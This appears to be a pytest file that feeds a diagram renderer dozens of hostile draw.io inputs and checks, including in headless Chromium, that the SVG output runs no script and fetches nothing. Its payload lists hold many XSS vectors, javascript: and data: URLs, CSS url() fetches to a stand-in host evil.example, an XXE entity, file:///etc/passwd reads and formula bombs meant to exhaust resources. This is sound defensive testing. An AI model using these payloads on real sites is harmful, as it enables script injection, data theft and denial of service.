"""Hostile diagrams: nothing of them runs, and nothing is fetched, by the lists and in a browser."""

from __future__ import annotations

import base64
import re
import subprocess
from xml.sax.saxutils import quoteattr

import pytest
from lxml import etree
from sketches import INERT, check, edge, model, vertex

from mkdocs_multicloud.diagram import mxfile
from mkdocs_multicloud.drawing import Drawer, PictureRequest
from mkdocs_multicloud.errors import DrawingError

# Whatever runs bumps the counter; whatever is fetched has the word in its address.
RUN = "top.ran++"
FAR = "https://evil.example/leak"
B64 = base64.b64encode(
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()
).decode()
NESTED = base64.b64encode(
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script><image href='{FAR}'/>"
    f"<foreignObject><img src='{FAR}'/></foreignObject></svg>".encode()
).decode()

VECTORS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src='{FAR}.js'></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<svg:script>{RUN}</svg:script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><use href='data:image/svg+xml;base64,{B64}#x'/></svg>",
    f"<svg><use xlink:href='{FAR}#x'/></svg>",
    f"<svg><image href='{FAR}'/></svg>",
    f"<svg><feImage href='{FAR}'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'/></foreignObject></svg>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' ",
    f"<img/src='x'/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img src='{FAR}.png'>",
    f"<img srcset='{FAR} 2x' src='//evil.example/leak'>",
    "<img src='file:///etc/passwd'>",
    f"<img lowsrc='{FAR}' dynsrc='{FAR}'>",
    f"<img src='data:image/svg+xml;base64,{NESTED}' width=20 height=20>",
    f"<image src=x onerror={RUN}>",
    f"<input onfocus={RUN} autofocus>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster='{FAR}' src='{FAR}'></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN} background='{FAR}'>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p onpointerrawupdate={RUN} onmouseover='{RUN}' style='width:999px'>x</p>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java&#10;script&colon;{RUN}'>x</a>",
    f"<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN}'>x</a>",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}'>x</a>",
    f"<a href=' \x01javascript:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='data:text/html;base64,{B64}'>x</a>",
    f"<a xlink:href='javascript:{RUN}'>x</a>",
    f"<a href='https://x.example\" onclick=\"{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>x</button></form>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe src='{FAR}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='{FAR}'></object>",
    f"<embed src='javascript:{RUN}'><embed src='{FAR}'>",
    f"<link rel=stylesheet href='{FAR}'><link rel=import href='{FAR}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<base href='{FAR}/'><img src='x.png'>",
    f"<style>@import '{FAR}';</style>",
    f"<style>*{{background:url('{FAR}')}}</style>",
    f"<div style='background:url({FAR})'>x</div>",
    f"<div style='background-image:url(javascript:{RUN})'>x</div>",
    f"<div style='width:expression({RUN})'>x</div>",
    f"<div style='behavior:url({FAR});-moz-binding:url({FAR})'>x</div>",
    f"<div style='color:red;fill:url({FAR}#a);filter:url({FAR}#b)'>x</div>",
    f"<div style='color:\\75rl({FAR})'>x</div>",
    f"<font color='url({FAR})' face='x;src:url({FAR})'>x</font>",
    f"<font color='\"/><script>{RUN}</script>' face='\"/><script>{RUN}</script>'>x</font>",
    f"<table background='{FAR}'><tr><td background='{FAR}'>x</td></tr></table>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{FAR}'>]>&e;",
    f"]]></text><script>{RUN}</script>",
    f"</text></svg><script>{RUN}</script><img src=x onerror={RUN}>",
    f"</title></desc><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f'" onload="{RUN}" x="\' onload=\'{RUN}',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
    f"<x\x00 onclick={RUN}><scr\x00ipt>{RUN}</script>".replace("\x00", "\ufffd"),
    f"$${{\\href{{javascript:{RUN}}}{{x}}}}$$",
    f"%javascript:{RUN}%",
]
LINKS = [
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f" javascript:{RUN}", f"java\nscript:{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"data:image/svg+xml;base64,{B64}",
    "file:///etc/passwd", f"x' onclick='{RUN}", f'https://x.example" onclick="{RUN}',
    f'data:action/json,{{"actions":[{{"open":"javascript:{RUN}"}}]}}', f"&#106;avascript:{RUN}",
    f"https:javascript:{RUN}", f"jar:{FAR}!/x", f"blob:{FAR}", f"view-source:{FAR}",
]  # fmt: skip
STYLES = [
    f"shape=image;image={FAR}.png",
    f"shape=image;image=javascript:{RUN}",
    "shape=image;image=file:///etc/passwd",
    f"shape=image;image=data:image/svg+xml,{NESTED}",
    f"shape=image;image=data:text/html,{B64}",
    f"shape=label;image={FAR}",
    f"fillColor=url({FAR})",
    f"strokeColor=url({FAR}#x)",
    f"gradientColor=url({FAR});fillColor=red",
    f'fillColor="/><script>{RUN}</script>',
    f"fontColor=red' onload='{RUN}",
    f"fontFamily=x;fontSource={FAR}.woff",
    f'fontFamily="/><script>{RUN}</script>;fontSource={FAR}',
    "fontSource=https%3A%2F%2Fevil.example%2Fleak;fontFamily=Leak",
    f"fontColor=url({FAR})",
    f"labelBackgroundColor=url({FAR});labelBorderColor=url({FAR})",
    f"shape=<script>{RUN}</script>",
    f"link=javascript:{RUN}",
    f"shadow=1;shadowColor=url({FAR})",
    f"dashed=1;dashPattern={RUN}",
    "shape=stencil(" + "A" * 40 + ")",
    f"fillColor=expression({RUN})",
    f"perimeter={RUN}",
    "shape=constructor",
    "shape=__proto__;edgeStyle=constructor",
    f"swimlane;swimlaneFillColor=url({FAR});",
    f"backgroundImage={FAR}",
    f"fillStyle=url({FAR});sketch=1",
    f"clipPath=url({FAR});shape=image;image=data:image/png,AAAA",
    f'textDirection=" onload="{RUN}',
]
PAGES = [
    f'background="url({FAR})"',
    f'background="#fff;x:url({FAR})"',
    f"backgroundImage='{{&quot;src&quot;:&quot;{FAR}&quot;,&quot;width&quot;:9,&quot;height&quot;:9}}'",
    f'math="1" background="javascript:{RUN}" extFonts="Leak^{FAR}"',
    f'style="default-style2" adaptiveColors="simple" extFonts="Leak^javascript:{RUN}"',
]
FORMULAS = [
    rf"$$\href{{javascript:{RUN}}}{{x}}$$",
    rf"$$\mmlToken{{mi}}[href='javascript:{RUN}']{{x}}$$",
    rf"$$\mmlToken{{mi}}[onclick='{RUN}']{{x}}$$",
    rf"$$\text{{<script>{RUN}</script>}}$$",
    rf"$$\style{{background:url({FAR})}}{{x}}\class{{a}}{{b}}\cssId{{c}}{{d}}$$",
    rf"$$\color{{url({FAR})}}{{x}}\definecolor{{y}}{{named}}{{url({FAR})}}\color{{y}}z$$",
    rf"$$\bbox[url({FAR})]{{x}}\colorbox{{url({FAR})}}{{y}}$$",
    rf"$$\fcolorbox{{red}}{{url({FAR})}}{{x}}\unicode{{x41}}\require{{html}}$$",
    rf'$$\enclose{{circle}}[mathcolor="url({FAR})"]{{x}}$$',
    r"$$\def\a{\a\a}\a$$",
    r"$$\def\a#1{#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{x}}}}}}}$$",
    r"$$\newenvironment{x}{\begin{x}}{\end{x}}\begin{x}\end{x}$$",
    "$$" + "{" * 900 + "}" * 900 + "$$",
    "$$" + r"\sqrt{" * 300 + "}" * 300 + "$$",
    "$$" + r"\overbrace{" * 150 + "x" + "}" * 150 + "$$",
    "$$" + "x" * 90_000 + "$$",
    "$$" + "&" * 1900 + "$$",
    r"$$\rule{99999999em}{99999em}\kern-1e9em\hspace{1e308em}$$",
    f"`href(javascript:{RUN})(x) class(a)(b) color(url({FAR}))(x)`",
    "`" + "(" * 1900 + "`",
    "`" + "sqrt" * 400 + "`",
    r"\(" * 9000,
    r"\begin{" * 9000,
    "$$ { " * 9000,
]
"""Labels of pages with maths."""


def sound(text):
    """Without the characters that cannot stand in XML."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)


def wrapped(label="x", **attributes):
    told = " ".join(f"{name}={quoteattr(sound(value))}" for name, value in attributes.items())
    return (
        f'<UserObject label={quoteattr(sound(label))} id="o" {told}><mxCell style="html=1" '
        'vertex="1" parent="1"><mxGeometry width="90" height="40" as="geometry"/></mxCell>'
        "</UserObject>"
    )


def documents():
    for number, vector in enumerate(VECTORS):
        text = sound(vector)
        yield f"label {number}", model(vertex("whiteSpace=wrap", text, (0, 0, 120, 60)))
        formula = model(vertex(label=f"$${text}$$ `{text}`"), attributes='math="1"')
        yield f"label with maths {number}", formula
        yield f"plain label {number}", model(vertex(label=text).replace("html=1;", "html=0;"))
        named = f"<diagram name={quoteattr(text)}>{model(vertex(label='x'))}</diagram>"
        yield f"name {number}", f"<mxfile>{named}</mxfile>"
        yield (
            f"metadata {number}",
            model(wrapped("%evil%", evil=vector, tooltip=vector, placeholders="1", tags=vector)),
        )
    for number, text in enumerate(FORMULAS):
        yield f"formula {number}", model(vertex(label=text), attributes='math="1"')
    for number, link in enumerate(LINKS):
        yield f"link {number}", model(wrapped(link=link))
        yield (
            f"link in a label {number}",
            model(vertex(label=f"<a href={quoteattr(sound(link))}>x</a>")),
        )
    for number, style in enumerate(STYLES):
        yield f"style {number}", model(vertex(sound(style), "x"))
    for number, attributes in enumerate(PAGES):
        yield f"page {number}", model(vertex(label="x"), attributes=attributes)


DOCUMENTS = dict(documents())


@pytest.fixture(scope="module")
def drawn(drawer, tmp_path_factory):
    """Every hostile document, drawn in both themes."""
    folders = (str(tmp_path_factory.mktemp("project")),)
    found = {}
    for name, text in DOCUMENTS.items():
        try:
            request = PictureRequest(themes=("light", "dark"), folders=folders)
            (found[name],) = drawer.draw(mxfile.parse(text), request)
        except DrawingError as error:
            if "constructor" not in text or "engine cannot draw it" not in error.message:
                raise
    return found


def test_the_corpus_is_large_enough():
    assert len(set(VECTORS)) == len(VECTORS) >= 40
    assert len(DOCUMENTS) >= 300


def test_nothing_stays_from_one_diagram_to_the_next():
    colors = "fillColor=nonsense;strokeColor=#123456;fontColor=light-dark(#111111,#eeeeee);"
    plain = model(vertex(colors, "<b style='color: #654321'>x</b>"), edge(ends=("v", "v")))
    many = [vertex(f"fillColor=#{n:06x};strokeColor=c{n}", cell=f"v{n}") for n in range(600)]
    made_up = "".join(f"<i style='name{n}: #abc{n:03}'>x</i>" for n in range(600))
    sheet = (
        '<mxStylesheet as="stylesheet"><add as="defaultVertex"><add as="fillColor" value="#f00"/>'
        '</add><add as="defaultEdge"><add as="strokeColor" value="#f00"/></add></mxStylesheet>'
    )
    others = [model(*many), model(vertex(label=made_up)), model(vertex(), attributes='shadow="1"')]
    others += [model(vertex(), sheet), model(vertex("shape=constructor"), *many)]

    def look(drawer, text):
        try:
            return drawer.draw(mxfile.parse(text), PictureRequest(themes=("light", "dark")))[
                0
            ].pictures
        except DrawingError as error:
            return error.message

    with Drawer() as fresh:
        alone = look(fresh, plain)
        for other in others:
            look(fresh, other)
            assert look(fresh, plain) == alone
    with Drawer() as used:
        for other in others:
            look(used, other)
        assert look(used, plain) == alone


def test_every_hostile_document_is_drawn_and_harmless(drawn):
    for name, drawing in drawn.items():
        for made in drawing.pictures:
            check(made.svg)
            root = etree.fromstring(made.svg)
            for element in root.iter():
                for key, value in element.attrib.items():
                    if not key.endswith("href"):
                        assert key in INERT or "evil" not in value, name
                    elif value.startswith("data:image/svg"):
                        inner = base64.b64decode(value.partition(",")[2])
                        assert b"<svg" in inner, name


def test_hostile_formulas_cost_no_picture(drawn):
    late = {name for name, one in drawn.items() if any("takes" in w for w in one.warnings)}
    assert late <= {"formula 10"}
    for number in (0, 2, 9, 12, 13, 14, 19):
        (warning,) = drawn[f"formula {number}"].warnings
        assert " in cell 'v' is shown as written: " in warning


def test_a_harmful_link_leaves_its_text(drawn):
    for number, link in enumerate(LINKS):
        for kind in ("link", "link in a label"):
            svg = drawn[f"{kind} {number}"].pictures[0].svg
            assert ">x<" in svg, link
            for href in re.findall(r'href="([^"]*)"', svg):
                assert href.startswith("https:"), href
                assert not re.match(r"https:[^/]", href), href


PAGE = """\
<!DOCTYPE html><meta charset="utf-8"><title>none</title>
<script>var ran = 0; window.onerror = null; var reached = [];
new PerformanceObserver((list) => { for (const e of list.getEntries()) reached.push(e.name); })
  .observe({ type: "resource", buffered: true });</script>
%s
<img src="control.invalid.png" onerror="window.control = 'ran'">
<script>
document.querySelectorAll("svg *").forEach((element) => {
  for (const type of ["mouseover", "click", "focus", "load", "begin", "toggle", "error"]) {
    const event = new MouseEvent(type, { bubbles: true, cancelable: true });
    if (type !== "click" || !element.closest("a")) element.dispatchEvent(event);
  }
});
addEventListener("load", () => setTimeout(() => {
  const far = reached.filter((name) => /evil|passwd/.test(name));
  document.title = `${ran} ${window.control} ${far.length}`;
}, 300));
</script>
"""


@pytest.mark.pictures
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(drawn, tmp_path):
    pictures = [made.svg for drawing in drawn.values() for made in drawing.pictures]
    assert title(tmp_path, "".join(pictures)) == "0 ran 0"


@pytest.mark.pictures
def test_the_browser_would_have_noticed(tmp_path):
    counted, control, reached = title(
        tmp_path, f"<svg onload='{RUN}'><script>{RUN}</script></svg><img src='{FAR}'>"
    ).split()
    assert (int(counted) >= 1, control, int(reached) >= 1) == (True, "ran", True)


def title(folder, content):
    """The title that the page gives itself when all of it has been loaded."""
    page = folder / "page.html"
    page.write_text(PAGE % content, "utf-8")
    done = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=5000",
         "--host-resolver-rules=MAP * ~NOTFOUND", "--disable-background-networking",
         f"--user-data-dir={folder / 'profile'}", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip
    return re.findall(r"<title>(.*?)</title>", done.stdout)[0]
